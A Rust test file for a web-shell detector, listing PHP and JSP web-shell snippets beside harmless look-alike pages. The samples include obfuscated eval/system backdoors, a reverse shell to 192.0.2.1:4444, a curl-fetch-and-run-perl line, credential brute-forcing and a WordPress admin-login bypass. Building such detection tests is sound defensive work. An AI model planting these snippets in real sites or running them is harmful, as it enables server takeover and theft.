//! Constructs that real shells in PHP and Java pages use, in words of our own, and harmless pages beside them.
//!
//! In: one text a row. Out: what the reader must say of it. They are texts of a test and run nowhere.

use super::{Verdict, read};

/// Shells: name, construct.
const SHELLS: &[(&str, &str)] = &[
    // The request goes through a callback, a spread, a method called as a function.
    ("spread.php", "<?php usort(...$_GET);"),
    ("each.php", "<?php array_walk_recursive($_POST, function($v, $k) { $k($v); });"),
    ("handler.php", "<?php set_error_handler($_GET['h']); trigger_error($_GET['m']);"),
    ("filter.php", "<?php filter_var($_POST['v'], FILTER_CALLBACK, ['options' => 'assert']);"),
    ("invoke.php", "<?php class B { function __invoke($t) { eval($t); } } array_map(new B, [$_POST['t']]);"),
    ("built.php", "<?php class C { function __construct($t) { @eval($t); } } new C($_REQUEST['t']);"),
    (
        "left.php",
        "<?php class D { public $f; function __destruct() { assert($this->f); } } unserialize($_POST['o']);",
    ),
    ("reflected.php", "<?php $f = new ReflectionFunction('sys'.'tem'); $f->invoke($_GET['c']);"),
    (
        "database.php",
        "<?php $d = new SQLite3('x'); $d->createFunction('f', 'assert'); $d->query(\"select f('\".$_POST['q'].\"')\");",
    ),
    // The name of the function is computed.
    ("replaced.php", "<?php $n = str_replace(array('1', '2'), '', 'a1s2s1e2rt'); $n($_REQUEST['z']);"),
    ("pattern.php", "<?php $n = preg_replace('/-/', '', 'a-s-s-e-rt'); $n($_POST['k']);"),
    (
        "mapped.php",
        "<?php $n = implode('', array_map('chr', array(97, 115, 115, 101, 114, 116))); $n($_POST['k']);",
    ),
    ("escaped.php", "<?php $n = \"\\x61\\163\\x73\\145\\x72\\164\"; $m = array($n); $m[0]($_POST['k']);"),
    ("jumps.php", "<?php goto a; b: $n($_POST['k']); goto c; a: $n = \"sys\".\"tem\"; goto b; c:"),
    (
        "xored.php",
        "<?php $n = ('!' ^ '@') . ('3' ^ '@') . ('3' ^ '@') . ('%' ^ '@') . ('2' ^ '@') . ('4' ^ '@'); $n($_POST['k']);",
    ),
    ("listed.php", "<?php list($a, $b) = array('ass', 'ert'); $c = $a.$b; $c($_POST['k']);"),
    ("picked.php", "<?php $t = 'tsrea'; $n = $t[4].$t[1].$t[1].$t[3].$t[2].$t[0]; $n($_POST['k']);"),
    ("put.php", "<?php $n = substr_replace('asxxx', 'sert', 2); $n($_POST['x']);"),
    ("behind.php", "<?php $n = substr(strstr('run:assert', ':'), 1); $n($_POST['x']);"),
    ("named.php", "<?php $v = 'n'; $$v = 'ass'.'ert'; $n($_POST['k']);"),
    ("constant.php", "<?php define('NAME', 'sys'.'tem'); $n = NAME; $n($_GET['c']);"),
    ("defined.php", "<?php $n = get_defined_vars()['_GET']['f']; $n($_POST['k']);"),
    ("nothing.php", "<?php $_ = @$_GET[a]; $__ = `$_`; echo $__;"),
    // The request comes another way.
    ("headers.php", "<?php eval(end(getallheaders()));"),
    ("referer.php", "<?php $s = $_SERVER['HTTP_REFERER']; @eval(base64_decode($s));"),
    ("body.php", "<?php $d = json_decode(file_get_contents('php://input'), true); system($d['c']);"),
    ("parsed.php", "<?php mb_parse_str($_SERVER['QUERY_STRING'], $o); eval($o['x']);"),
    ("taken.php", "<?php extract($_GET); $a($b);"),
    ("looped.php", "<?php while (list($k, $v) = each($_POST)) $$k = $v; eval($code);"),
    ("session.php", "<?php session_id($_COOKIE['s']); session_start(); eval(hex2bin(session_id()));"),
    ("global.php", "<?php $t = $_POST['t']; function go() { global $t; eval($t); } go();"),
    ("buffer.php", "<?php ob_start('assert'); echo $_REQUEST['t']; ob_end_flush();"),
    // What is written, and where.
    ("handle.php", "<?php $f = fopen($_POST['p'], 'w'); fwrite($f, $_POST['c']);"),
    ("fetched.php", "<?php file_put_contents($_GET['f'], file_get_contents($_GET['u']));"),
    ("logged.php", "<?php error_log($_POST['t'], 3, $_POST['p']);"),
    ("joined.php", "<?php $x = \"\\x2fvar\\x2fwww\\x2f\\x66\\x61\\x76\\x69\\x63on.ico\"; @include $x;"),
    ("included.php", "<?php include($_GET['f']);"),
    // Items of lists, parts of names, commands that fetch, mail for everyone.
    ("items.php", "<?php $i['j'] = 'assert'; $a[] = $i; @$a[0]['j']($_POST['k']);"),
    (
        "ends.php",
        "<?php $c = $_COOKIE['c']; array_intersect_ukey(array($_REQUEST['p'] => 1), array(1), $c.'ert');",
    ),
    (
        "header.php",
        "<?php $k = $_SERVER['HTTP_ACCEPT'].'Pad'; $f = pack('H*', '13'.'3f120b') ^ $k; array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);",
    ),
    ("servers.php", "<?php $a = array_values($_SERVER); echo system($a[6]);"),
    (
        "fetch.php",
        "<?php $u = 'http://example.test/'; exec('cd /tmp;curl -O '.$u.'r.txt;perl r.txt;rm -f r.txt'); ",
    ),
    (
        "mailer.php",
        "<?php $l = explode(\"\\n\", $_POST['l']); foreach ($l as $to) { mail($to, $_POST['s'], stripslashes($_POST['m']), 'From: '.$_POST['f']); }",
    ),
    ("put.php", "<?php $n = substr_replace('asxxx', 'sert', 2); $n($_POST['x']);"),
    ("behind.php", "<?php $n = substr(strstr('run:assert', ':'), 1); $n($_POST['x']);"),
    ("named.php", "<?php define('RUN', 'sys'.'tem'); RUN($_GET['c']);"),
    ("stream.php", "<?php $q = $_GET['q']; file_get_contents('php'.$q)($_GET['a']);"),
    (
        "moved.php",
        "<?php if (@$_COOKIE['p'] != '') { file_put_contents($_COOKIE['p'], base64_decode(file_get_contents('/tmp/t.tmp'))); }",
    ),
    (
        "copied.php",
        "<?php copy_here('http://example.test/a/tool.php'); function copy_here($u, $f = '') { $f = empty($f) ? pathinfo($u, PATHINFO_BASENAME) : $f; $c = curl_init($u); file_put_contents($f, curl_exec($c)); }",
    ),
    // What is fetched goes where the request says, or beside the page.
    (
        "fetched.php",
        "<?php $u = $_POST['u']; $to = './' . basename($u); $in = fopen($u, 'rb'); $out = fopen($to, 'wb'); while (!feof($in)) { fwrite($out, fread($in, 4096)); }",
    ),
    (
        "import.php",
        "<?php $n = $_POST['n'] == '' ? basename($_POST['u']) : $_POST['n']; copy($_POST['u'], $n);",
    ),
    (
        "program.php",
        "<?php $t = base64_decode('IyEvdXNyL2Jpbi9wZXJsCnByaW50IDE7Cg=='); $f = fopen('/tmp/.x', 'w'); fputs($f, $t); if (function_exists('exec')) { exec('perl /tmp/.x'); } elseif (function_exists('system')) { system('perl /tmp/.x'); } else { passthru('perl /tmp/.x'); }",
    ),
    // Any folder, any file; passwords that are tried; an upload form behind a password that stands in the page.
    (
        "browse.php",
        "<?php $p = $_GET['p'] ? $_GET['p'] : '/'; if ($h = @opendir($p)) { while ($n = readdir($h)) echo \"<a href=?p=$p/$n>$n</a>\"; } else { $f = fopen($p, 'r'); echo fread($f, filesize($p)); }",
    ),
    (
        "tries.php",
        "<?php foreach (explode(\"\\n\", $_POST['h']) as $h) foreach (explode(\"\\n\", $_POST['p']) as $p) { mysql_connect($h, $_POST['u'], $p); $c = ftp_connect($h); ftp_login($c, $_POST['u'], $p); $s = ssh2_connect($h); ssh2_auth_password($s, $_POST['u'], $p); }",
    ),
    (
        "door.php",
        "<?php session_start(); if ($_POST['k'] == 'Xy7!kPq2#') { $_SESSION['in'] = 1; } if (!empty($_SESSION['in'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'img/' . $_FILES['f']['name']); } ?><form method=post enctype=\"multipart/form-data\"><input type=file name=f></form>",
    ),
    ("peer.php", "<?php system('./take '.$_SERVER['REMOTE_ADDR'].' '.$_SERVER['REMOTE_PORT']);"),
    // The request as a framework hands it on; variables that it sets; a page that only lets in.
    (
        "action.php",
        "<?php class A_Action extends Base { public function process(Req $request) { system($request->get('c')); } }",
    ),
    ("sets.php", "<?php if (!empty($_POST)) extract($_POST); if ($in) { $cmd .= ' 2>&1'; system($cmd); }"),
    (
        "enter.php",
        "<?php require('wp-blog-header.php'); $u = get_userdata(1); wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID);",
    ),
    // A check that lets the rest of the page run, or that allows what code is made of, is none.
    (
        "soft.php",
        "<?php if (!preg_match('/^[0-9+]+$/', $_GET['e'])) { echo 'bad'; } eval('$r='.$_GET['e'].';');",
    ),
    ("wide.php", "<?php if (!preg_match('/^[a-z_0-9()\\'$;]+$/', $_GET['e'])) die; eval($_GET['e']);"),
    ("half.php", "<?php $e = preg_replace('/[^0-9]/', '', $_GET['a']); eval($e.$_GET['b']);"),
    ("open.php", "<?php if (!preg_match('/[0-9]/', $_GET['e'])) die; eval($_GET['e']);"),
    (
        "root.php",
        "<?php $p = realpath($_POST['p']); if (strpos($p, '/') !== 0) die; file_put_contents($p, $_POST['c']);",
    ),
    // Tags and names that are seldom used.
    ("tag.php", "<script language=\"php\">@eval($_POST['t'])</script>"),
    ("pages/short.pht", "<? @eval($_POST['t']); ?>"),
    (
        "sets.php",
        "<?php ini_set('auto_prepend_file', $_GET['f']); putenv('LD_PRELOAD='.$_GET['l']); mail('a','b','c');",
    ),
    (
        "connect.php",
        "<?php $s = fsockopen('192.0.2.1', 4444); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $x);",
    ),
    // Java: names of classes and methods are computed.
    (
        "joined.jsp",
        "<% Class c = Class.forName(\"java.lang.Run\".concat(\"time\")); Object o = c.getMethod(\"getRun\".concat(\"time\")).invoke(null); c.getMethod(\"ex\".concat(\"ec\"), String.class).invoke(o, request.getParameter(\"z\")); %>",
    ),
    (
        "hidden.jsp",
        "<% Object o = null; java.lang.reflect.Method m = o.getClass().getMethod(new String(java.util.Base64.getDecoder().decode(\"ZXhlYw==\")), String.class); m.invoke(o, request.getHeader(\"X-A\")); %>",
    ),
    (
        "expression.jsp",
        "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),param.cmd)}",
    ),
    (
        "letters.jsp",
        "<% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065.getRuntime().exec(request.getParameter(\"i\")); %>",
    ),
    (
        "bean.jsp",
        "<% new java.beans.Statement(Runtime.getRuntime(), \"exec\", new Object[]{request.getParameter(\"i\")}).execute(); %>",
    ),
    (
        "prefix.jspx",
        "<hi xmlns:hi=\"http://java.sun.com/JSP/Page\"><hi:scriptlet><![CDATA[ Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); ]]></hi:scriptlet></hi>",
    ),
    (
        "list.jsp",
        "<% ProcessBuilder pb = new ProcessBuilder(); List<String> l = new ArrayList<>(); l.add(\"cmd\"); l.add(\"/c\"); l.add(request.getParameter(\"q\")); pb.command(l); Process p = pb.start(); %>",
    ),
    // Java: what evaluates, loads, looks up.
    (
        "spel.jsp",
        "<% new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(request.getParameter(\"e\")).getValue(); %>",
    ),
    (
        "objects.jsp",
        "<% ObjectInputStream o = new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(request.getParameter(\"o\")))); o.readObject(); %>",
    ),
    (
        "decoder.jsp",
        "<% new java.beans.XMLDecoder(new java.io.StringBufferInputStream(request.getParameter(\"x\"))).readObject(); %>",
    ),
    (
        "rows.jsp",
        "<% com.sun.rowset.JdbcRowSetImpl j = new com.sun.rowset.JdbcRowSetImpl(); j.setDataSourceName(request.getParameter(\"l\")); j.setAutoCommit(true); %>",
    ),
    ("names.jsp", "<% new javax.naming.InitialContext().lookup(request.getParameter(\"u\")); %>"),
    (
        "groovy.jsp",
        "<% groovy.lang.GroovyShell g = new groovy.lang.GroovyShell(); g.evaluate(request.getParameter(\"g\")); %>",
    ),
    (
        "compiled.jsp",
        "<% String s = request.getParameter(\"s\"); FileWriter w = new FileWriter(new File(\"/tmp/A.java\")); w.write(s); w.close(); javax.tools.JavaCompiler c = javax.tools.ToolProvider.getSystemJavaCompiler(); c.run(null, null, null, \"/tmp/A.java\"); new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"file:/tmp/\")}).loadClass(\"A\").newInstance(); %>",
    ),
    // Java: files.
    (
        "part.jsp",
        "<% javax.servlet.http.Part p = request.getPart(\"f\"); p.write(application.getRealPath(\"/\") + p.getSubmittedFileName()); %>",
    ),
    (
        "files.jsp",
        "<% java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter(\"f\")), request.getParameter(\"t\").getBytes()); %>",
    ),
    (
        "read.jsp",
        "<% InputStream in = new java.net.URL(request.getParameter(\"u\")).openStream(); FileOutputStream o = new FileOutputStream(application.getRealPath(\"/\") + request.getParameter(\"n\")); int n; byte[] b = new byte[1024]; while ((n = in.read(b)) != -1) o.write(b, 0, n); %>",
    ),
    (
        "digits.jsp",
        "<% String s = request.getParameter(\"q\"); byte[] b = new byte[s.length() / 2]; for (int i = 0; i <= s.length() - 2; i += 2) { byte v = (byte) Integer.parseInt(s.substring(i, i + 2), 16); b[i / 2] = (byte) (v ^ 7); } Process p = Runtime.getRuntime().exec(\"cmd.exe /c \" + new String(b)); %>",
    ),
    // Settings of a folder.
    ("up/.htaccess", "AddType application/x-httpd-php .jpg\n"),
    ("up/.htaccess", "<FilesMatch \"cat.png\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"),
    ("up/.user.ini", "auto_prepend_file=cat.gif\n"),
    ("up/.htaccess", "php_value auto_append_file \"data:;base64,eA==\"\n"),
];

/// Pages that look alike and harm no one.
const HARMLESS: &[(&str, &str)] = &[
    (
        "sort.php",
        "<?php usort($rows, function($a, $b) { return $a['n'] <=> $b['n']; }); echo htmlspecialchars($_GET['q']);",
    ),
    (
        "trim.php",
        "<?php $in = array_map('trim', $_POST); $ids = array_map('intval', $_GET['ids']); save($in, $ids);",
    ),
    (
        "error.php",
        "<?php set_error_handler('on_error'); function on_error($n, $m) { error_log($m); } trigger_error('x');",
    ),
    (
        "filter.php",
        "<?php $m = filter_var($_POST['mail'], FILTER_VALIDATE_EMAIL); if (!$m) { die('bad address'); }",
    ),
    // Checks before the sink, settings that the set-up writes, what belongs to the application.
    (
        "sum.php",
        "<?php $e = preg_replace('/[^0-9+*\\/().-]/', '', $_GET['e']); eval(\"\\$r = $e;\"); echo (float) $r;",
    ),
    (
        "sum2.php",
        "<?php $e = $_POST['e']; if (!preg_match('/^[0-9+*. ()-]+$/', $e)) { die('no'); } eval('$r = '.$e.';'); echo $r;",
    ),
    (
        "files.php",
        "<?php $root = realpath(UPLOADS); function inside($p) { global $root; $r = realpath($root.'/'.$p); if (strpos($r, $root) !== 0) die('no'); return $r; } switch ($_POST['do']) { case 'list': foreach (scandir(inside($_POST['d'])) as $f) echo htmlspecialchars($f); break; case 'delete': unlink(inside($_POST['f'])); break; case 'save': file_put_contents(inside($_POST['f']), $_POST['c']); break; }",
    ),
    (
        "setup.php",
        "<?php if (is_file('config.php')) die('done'); if ($_POST) { $c = \"<?php\\ndefine('HOST', '\".addslashes($_POST['host']).\"');\\ndefine('USER', '\".addslashes($_POST['user']).\"');\\n\"; $m = new mysqli($_POST['host'], $_POST['user']); file_put_contents('config.php', $c); }",
    ),
    (
        "plugins.jsp",
        "<% ClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{application.getResource(\"/WEB-INF/plugins/a.jar\")}); Runnable r = (Runnable) l.loadClass(\"com.example.A\").newInstance(); r.run(); %>",
    ),
    (
        "environment.php",
        "<?php $e = array_intersect_key(getenv(), $_SERVER); $c = 'nice -n 5 backup'; foreach ($e as $k => $v) { $c .= ' '.$k; } proc_open($c, array(), $p, null, $e);",
    ),
    ("method.php", "<?php $name = 'show'.ucfirst('page'); $this->$name($_GET['id']);"),
    (
        "dispatch.php",
        "<?php $do = array('a' => 'list_a', 'b' => 'list_b'); $f = isset($do[$_GET['do']]) ? $do[$_GET['do']] : 'list_a'; $f();",
    ),
    (
        "buffer.php",
        "<?php ob_start('ob_gzhandler'); echo 'hello '.htmlspecialchars($_GET['n']); ob_end_flush();",
    ),
    (
        "replace.php",
        "<?php $t = str_replace(array('{n}', '{d}'), array($_POST['n'], date('c')), $tpl); echo $t;",
    ),
    (
        "language.php",
        "<?php $l = in_array($_GET['l'], array('en', 'fr')) ? $_GET['l'] : 'en'; include \"lang/$l.php\";",
    ),
    (
        "input.php",
        "<?php $d = json_decode(file_get_contents('php://input'), true); $q = $db->prepare('insert into t values (?)'); $q->execute(array($d['v']));",
    ),
    ("log.php", "<?php error_log(date('c').' '.$_SERVER['REMOTE_ADDR'].\"\\n\", 3, '/var/log/app.log');"),
    (
        "bits.php",
        "<?php $h = 5381; for ($i = 0; $i < strlen($s); $i++) { $h = (($h << 5) + $h) ^ ord($s[$i]); } echo $h & 0x7fffffff;",
    ),
    (
        "session.php",
        "<?php session_start(); if (session_id() !== $_POST['token']) { exit; } $_SESSION['name'] = $_POST['name'];",
    ),
    (
        "upload.php",
        "<?php $n = bin2hex(random_bytes(8)).'.png'; if (getimagesize($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'], \"/srv/up/$n\");",
    ),
    (
        "contact.php",
        "<?php $m = 'From '.$_POST['name'].\": \".$_POST['text']; mail('office@example.test', 'Contact form', $m);",
    ),
    ("update.php", "<?php exec('git pull && composer install --no-dev', $out); echo implode(\"\\n\", $out);"),
    (
        "page.php",
        "<?php $k['title'] = 'News'; $rows[] = $k; echo $rows[0]['title'].htmlspecialchars($_POST['k']);",
    ),
    ("convert.php", "<?php exec('convert '.escapeshellarg($src).' -resize 100x100 '.escapeshellarg($dst));"),
    (
        "list.jsp",
        "<%@ page import=\"java.util.*\" %><% List<String> l = new ArrayList<>(); l.add(request.getParameter(\"q\")); for (String s : l) { out.print(org.apache.commons.text.StringEscapeUtils.escapeHtml4(s)); } %>",
    ),
    (
        "tags.jsp",
        "<%@ taglib prefix=\"c\" uri=\"http://java.sun.com/jsp/jstl/core\" %><c:out value=\"${param.name}\"/><c:if test=\"${empty param.id}\">none</c:if>",
    ),
    (
        "source.jsp",
        "<% javax.sql.DataSource d = (javax.sql.DataSource) new javax.naming.InitialContext().lookup(\"java:comp/env/jdbc/app\"); java.sql.PreparedStatement s = d.getConnection().prepareStatement(\"select n from t where i = ?\"); s.setString(1, request.getParameter(\"i\")); %>",
    ),
    (
        "driver.jsp",
        "<% Class.forName(\"com.mysql.jdbc.Driver\").newInstance(); out.print(request.getParameter(\"n\").length()); %>",
    ),
    (
        "save.jsp",
        "<% FileWriter w = new FileWriter(\"/var/app/notes.txt\", true); w.write(request.getParameter(\"note\")); w.close(); %>",
    ),
    (
        "www/.htaccess",
        "AddHandler application/x-httpd-php74 .php .phtml\nRewriteEngine On\nRewriteRule ^(.*)$ index.php [L]\n",
    ),
    (
        "www/.htaccess",
        "<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\nAddType image/webp .webp\n",
    ),
    ("www/.user.ini", "auto_prepend_file = \"/srv/www/firewall.php\"\nupload_max_filesize = 8M\n"),
];

/// Rows whose verdict is another, with the reasons.
fn others(rows: &[(&str, &str)], verdict: Verdict) -> Vec<String> {
    let readings = rows.iter().map(|(name, text)| (name, text, read(text.as_bytes(), name)));
    let other = readings.filter(|(_, _, reading)| reading.verdict() != verdict);
    other.map(|(name, text, reading)| format!("{name}: {:?}\n{text}\n", reading.reasons)).collect()
}

#[test]
fn constructs_of_real_shells_are_accused() {
    let others = others(SHELLS, Verdict::Accused);
    assert!(others.is_empty(), "{}", others.concat());
}

#[test]
fn pages_that_look_alike_are_clean() {
    let others = others(HARMLESS, Verdict::Clean);
    assert!(others.is_empty(), "{}", others.concat());
}

#[test]
fn code_in_compressed_bytes_is_none() {
    let mut bytes = b"PK\x03\x04\0\0\0\0".to_vec();
    bytes.extend_from_slice(b"\0\0<?=\x01 $_\x02$a($b)\0^\x03|\x04;".repeat(40).as_slice());
    assert_eq!(read(&bytes, "lib.jar").language, None);
    let mut picture = b"GIF89a\x01\0\x01\0\0\0\0".to_vec();
    picture.extend_from_slice(b"<? @eval($_POST['t']); ?>");
    assert_eq!(read(&picture, "cat.gif").verdict(), Verdict::Accused);
}
